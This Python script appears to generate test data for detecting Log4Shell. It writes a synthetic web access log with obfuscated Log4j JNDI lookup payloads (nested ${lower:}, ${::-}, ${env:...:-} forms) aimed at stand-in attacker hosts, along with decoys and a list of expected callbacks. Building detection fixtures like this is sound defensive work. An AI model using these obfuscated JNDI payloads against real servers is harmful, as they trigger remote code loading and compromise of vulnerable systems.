"""Web access logs with obfuscated Log4j lookup payloads (nested ${...}) in various fields, and the
expected JNDI callbacks."""
import os
import random


def obf_char(r, c, depth=0):
    f = r.random()
    if f < 0.45 or depth > 1:
        return c
    forms = [lambda: "${lower:" + c + "}", lambda: "${::-" + c + "}",
             lambda: "${env:" + r.choice(["NaN", "X9", "FOO_BAR", "HOSTNAMEX"]) + ":-" + c + "}",
             lambda: "${sys:" + r.choice(["a.b", "user.xyz", "q"]) + ":-" + c + "}",
             lambda: "${" + r.choice(["date", "main", "ctx"]) + ":" + r.choice(["k", "yy", "zz"]) + ":-" + c + "}"]
    s = r.choice(forms)()
    if r.random() < 0.2:               # nest once more: ${lower:${::-c}}
        s = "${lower:" + obf_char(r, c, depth + 1) + "}" if c.islower() else s
    return s


def obf(r, text):
    return "".join(obf_char(r, c) if c not in "{}$" else c for c in text)


def build(seed, out):
    r = random.Random(seed)
    os.makedirs(out, exist_ok=True)
    lines, exp = [], []
    paths = ["/", "/index.html", "/login", "/api/v1/items?id=3", "/static/app.js", "/search?q=shoes"]
    uas = ["Mozilla/5.0 (X11; Linux x86_64)", "curl/7.88.1", "Go-http-client/1.1", "python-requests/2.31"]
    for n in range(1, 121):
        ip = f"{r.choice([10, 192, 203, 198])}.{r.randint(0, 255)}.{r.randint(0, 255)}.{r.randint(1, 254)}"
        path, ua, ref = r.choice(paths), r.choice(uas), "-"
        kind = r.random()
        found = None
        if kind < 0.3:
            scheme = r.choice(["ldap", "ldaps", "rmi", "dns", "iiop"])
            host = r.choice([f"198.51.100.{r.randint(2, 250)}", f"{r.choice(['cb', 'x', 'log'])}{r.randint(1, 99)}.attacker.example"])
            port = r.choice([None, 1389, 1099, 53, 8443])
            pth = r.choice(["/a", "/Exploit", "/o=tomcat", f"/{r.randint(1000, 9999)}", ""])
            url = f"{scheme}://{host}" + (f":{port}" if port else "") + pth
            expr = "${" + obf(r, "jndi") + ":" + obf(r, scheme) + obf(r, "://") + host + (f":{port}" if port else "") + pth + "}"
            where = r.choice(["ua", "path", "ref"])
            if where == "ua":
                ua = expr
            elif where == "ref":
                ref = expr
            else:
                path = "/?x=" + expr
            found = {"line": n, "client": ip, "url": url, "scheme": scheme, "host": host, "port": port}
        elif kind < 0.4:
            decoy = r.choice(["${java:version}", "${jnd" + "i:ldap://198.51.100.9/a", "${env:HOME}",
                              "$" + "{lower:jndi}", "${${lower:j}ndi_x:ldap://198.51.100.4/b}",
                              "${::-$}${::-{}jndi:ldap://198.51.100.77/d}"])
            ua = "Mozilla/5.0 " + decoy
        code = r.choice([200, 200, 404, 400, 302])
        lines.append(f'{ip} - - [05/Dec/2026:10:{n // 60:02d}:{n % 60:02d} +0000] "GET {path} HTTP/1.1" {code} '
                     f'{r.randint(100, 9000)} "{ref}" "{ua}"')
        if found:
            exp.append(found)
    with open(os.path.join(out, "access.log"), "w") as f:
        f.write("\n".join(lines) + "\n")
    return exp
